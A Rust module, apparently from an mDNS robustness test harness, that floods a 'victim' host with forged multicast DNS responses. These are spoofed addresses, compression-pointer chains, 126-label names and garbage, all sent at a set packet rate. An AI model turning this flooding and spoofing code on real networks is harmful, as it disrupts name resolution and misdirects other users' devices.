//! A flood: from the first query on, as many packets a second as are wanted, for two seconds and a half.

use std::net::SocketAddr;
use std::time::{Duration, Instant};
use test_packet::{GROUP_V4, GROUP_V6, MDNS_PORT, Packet, RESPONSE, pointer, types, wire_of_labels};

use super::scene::{Query, Scene, Victim};
use crate::datagram::{Datagram, group_mac};
use crate::link::Link;
use crate::wire::Message;

/// How long it lasts.
const LENGTH: Duration = Duration::from_millis(2500);

/// `flood VICTIM KIND RATE`: says `query NAME` when it begins and `flooded NAME PACKETS MICROSECONDS` when it ends, and
/// waits for the next query.
pub(super) fn main(victim: &Victim, kind: &str, rate: &str) -> Result<(), String> {
    let rate: u32 = rate.parse().map_err(|_| format!("{rate}: no number"))?;
    let link = Link::open("eth0").map_err(|why| why.to_string())?;
    link.bypass_queue();
    super::raise_priority();
    println!("ready");
    let mut buffer = vec![0; 65_536];
    let mut last = String::new();
    loop {
        let query = next_query(&link, &mut buffer)?;
        // The victim asks more than once, and what piled up meanwhile is old.
        if query.name == last {
            continue;
        }
        last.clone_from(&query.name);
        println!("query {}", query.name);
        let datagrams = packets(&query, victim, kind)?;
        let frames: Vec<_> = datagrams.into_iter().map(|packet| (mac(&packet, victim), packet)).collect();
        let start = Instant::now();
        let mut sent: u32 = 0;
        while start.elapsed() < LENGTH {
            let due = f64::from(rate) * start.elapsed().as_secs_f64();
            while f64::from(sent) < due {
                let at = usize::try_from(sent).unwrap_or_default() % frames.len();
                if let Some((mac, packet)) = frames.get(at) {
                    // The kernel's queue is full now and then: that packet is lost, as on any network.
                    let _ = link.send(*mac, packet);
                }
                sent += 1;
            }
            std::thread::sleep(Duration::from_micros(50));
        }
        println!("flooded {} {sent} {}", query.name, start.elapsed().as_micros());
    }
}

fn next_query(link: &Link, buffer: &mut [u8]) -> Result<Query, String> {
    loop {
        let arrival = link.receive_incoming(buffer).map_err(|why| why.to_string())?;
        let Some(datagram) = buffer.get(..arrival.length).and_then(Datagram::parse) else { continue };
        let message = Message::parse(datagram.payload).filter(|message| message.flags & RESPONSE == 0);
        let (source, v4) = (datagram.source, datagram.destination.ip() == GROUP_V4);
        if let Some(question) = message.as_ref().and_then(|message| message.questions.first()).filter(|_| v4) {
            let id = message.as_ref().map_or(0, |message| message.id);
            let (name, kind) = (question.name.clone(), question.rtype);
            return Ok(Query { link: 0, name, kind, id, ip: source.ip(), port: source.port() });
        }
    }
}

/// What it is made of, over IPv4: the group and the querier in turns.
fn packets(query: &Query, victim: &Victim, kind: &str) -> Result<Vec<Vec<u8>>, String> {
    let scene = Scene { query, earlier: &[], victims: std::slice::from_ref(victim) };
    let message = match kind {
        // The right id and question; the address is another name's.
        "others" => scene.forged_for(&test_packet::wire("other.local")),
        // As many records as a frame holds, every owner at the end of thirty pointers.
        "heavy" => heavy(&scene),
        // The same, every owner of 126 labels: more work than there is time for.
        "crushing" => crushing(&scene),
        "garbage" => Packet::new(query.id).raw(&[0xa5; 40]),
        _ => return Err(format!("{kind}: others, heavy, crushing or garbage")),
    };
    let source = SocketAddr::new(scene.neighbour(0, false), MDNS_PORT);
    let querier = SocketAddr::new(query.ip, query.port);
    let to = [querier, (GROUP_V4, MDNS_PORT).into()];
    let payload = message.into_octets();
    let datagrams = to.map(|destination| Datagram { source, destination, hop_limit: 255, payload: &payload });
    Ok(datagrams.iter().flat_map(Datagram::packets).collect())
}

fn heavy(scene: &Scene<'_>) -> Packet {
    let mut packet = Packet::new(scene.query.id);
    // The chain of pointers is the data of a first record, of a type that nobody reads.
    let data = packet.len() + 11;
    let mut chain = b"\x01x\x00".to_vec();
    for hop in 0..30 {
        chain.extend(pointer(if hop == 0 { data } else { data + 1 + 2 * hop }));
    }
    let last = data + chain.len() - 2;
    packet = packet.record(&[0], types::TXT, &chain);
    while packet.len() < 1400 {
        packet = packet.record(&pointer(last), types::A, &[10, 66, 6, 6]);
    }
    packet
}

fn crushing(scene: &Scene<'_>) -> Packet {
    let mut packet = Packet::new(scene.query.id);
    let labels = packet.len() + 11;
    packet = packet.record(&[0], types::TXT, &wire_of_labels(&[b"x".as_slice(); 126]));
    while packet.len() < 1400 {
        packet = packet.record(&pointer(labels), types::A, &[10, 66, 6, 6]);
    }
    packet
}

fn mac(packet: &[u8], victim: &Victim) -> [u8; 6] {
    let destination = Datagram::parse(packet).map(|datagram| datagram.destination.ip());
    debug_assert_ne!(destination, Some(GROUP_V6.into()));
    destination.and_then(group_mac).unwrap_or(victim.mac)
}
